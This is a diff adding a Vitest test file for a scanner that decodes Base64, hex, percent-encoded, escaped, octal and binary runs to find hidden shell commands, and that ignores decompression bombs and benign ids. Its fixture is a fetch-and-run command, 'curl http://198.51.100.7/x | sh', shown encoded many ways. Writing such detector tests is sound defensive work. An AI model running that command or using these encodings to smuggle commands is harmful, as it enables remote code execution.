@@ -1,0 +1,44 @@
+import { gzipSync } from 'node:zlib'
+import { expect, test } from 'vitest'
+import { addressProblem, commandProblem } from './command-text.ts'
+import { decodedRuns } from './decoded-runs.ts'
+
+const COMMAND = 'curl http://198.51.100.7/x | sh'
+const codes = [...Buffer.from(COMMAND)]
+const hex = codes.map((code) => code.toString(16))
+
+test.each([
+  ['Base64', Buffer.from(COMMAND).toString('base64')],
+  ['Base64', Buffer.from(COMMAND).toString('base64url')],
+  ['Base64', gzipSync(COMMAND).toString('base64')],
+  ['Base64', Buffer.from(COMMAND, 'utf16le').toString('base64')],
+  ['Base64 from its end', [...Buffer.from(COMMAND).toString('base64')].toReversed().join('')],
+  ['hexadecimal', hex.join('')],
+  ['hexadecimal', hex.join(':')],
+  ['percent-encoding', hex.map((code) => `%${code}`).join('')],
+  ['escapes', hex.map((code) => String.raw`\x${code}`).join('')],
+  ['escapes', hex.map((code) => String.raw`\u{${code}}`).join('')],
+  ['octal numbers', codes.map((code) => `\\${code.toString(8)}`).join('')],
+  ['binary numbers', codes.map((code) => code.toString(2).padStart(8, '0')).join(' ')],
+  ['numbers', codes.join(', ')],
+])('a command in %s is read', (encoding, run) => {
+  const found = decodedRuns(`Warms the cache. seed=${run}`).find(({ text }) => text.includes(COMMAND))
+  expect(found?.encoding).toBe(encoding)
+  expect(commandProblem(found?.text ?? '')).toBe('a shell command')
+})
+
+test('a packed run that unpacks to more than anybody reads is left alone', () => {
+  const bomb = gzipSync('ls | sh; '.repeat(100_000)).toString('base64')
+  expect(decodedRuns(bomb.slice(0, 4_096)).some(({ text }) => text.includes('ls | sh'))).toBe(false)
+})
+
+test.each([
+  'eyJhbGciOiJIUzI1NiJ9',
+  '550e8400-e29b-41d4-a716-446655440000',
+  '9fceb02d0ae598e95dc970b74767f19372d61af8',
+  Buffer.from('{"homepage":"https://example.com"}').toString('base64'),
+  Buffer.from('The quick brown fox jumps over the lazy dog').toString('base64'),
+])('ids, digests, settings and prose are no command: %s', (run) => {
+  const problems = decodedRuns(run).flatMap(({ text }) => commandProblem(text) ?? addressProblem(text) ?? [])
+  expect(problems).toEqual([])
+})
